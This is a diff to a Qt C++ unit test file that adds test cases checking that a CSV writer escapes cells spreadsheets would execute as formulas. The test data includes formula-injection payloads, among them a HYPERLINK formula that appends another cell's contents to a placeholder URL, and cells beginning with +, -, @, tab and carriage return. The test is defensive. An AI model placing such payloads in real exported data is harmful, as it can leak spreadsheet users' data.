@@ -2,6 +2,7 @@
 #include <QtTest>
 
 #include "text/cp932.h"
+#include "text/entrycsv.h"
 #include "text/pathname.h"
 #include "text/textutil.h"
 
@@ -138,6 +139,29 @@ private slots:
         QCOMPARE(PathFolder("C:\\work\\a.jww"), std::string("C:\\work\\"));
         QCOMPARE(PathFileName("C:a.jww"), std::string("a.jww"));
         QCOMPARE(PathFolder("nofolder.jww"), std::string());
+    }
+    // A cell that a spreadsheet would run as a formula is written as text.
+    void csvCellsNeverRunAsFormulas_data()
+    {
+        QTest::addColumn<QString>("cell");
+        QTest::addColumn<QString>("written");
+        QTest::newRow("plain") << "図面 A-1" << "図面 A-1";
+        QTest::newRow("comma quoted") << "a,b" << "\"a,b\"";
+        QTest::newRow("hyperlink") << "=HYPERLINK(\"http://x\"&C2,\"open\")"
+                                   << "\"'=HYPERLINK(\"\"http://x\"\"&C2,\"\"open\"\")\"";
+        QTest::newRow("plus") << "+1+1" << "'+1+1";
+        QTest::newRow("minus") << "-2+3" << "'-2+3";
+        QTest::newRow("at") << "@SUM(1,1)" << "\"'@SUM(1,1)\"";
+        QTest::newRow("tab") << "\t=1" << "'\t=1";
+        QTest::newRow("carriage return") << "\r=1" << "\"'\r=1\"";
+        QTest::newRow("inside is harmless") << "a=1" << "a=1";
+        QTest::newRow("empty") << "" << "";
+    }
+    void csvCellsNeverRunAsFormulas()
+    {
+        QFETCH(QString, cell);
+        QFETCH(QString, written);
+        QCOMPARE(QString::fromStdString(CsvField(cell.toStdString())), written);
     }
 };
 
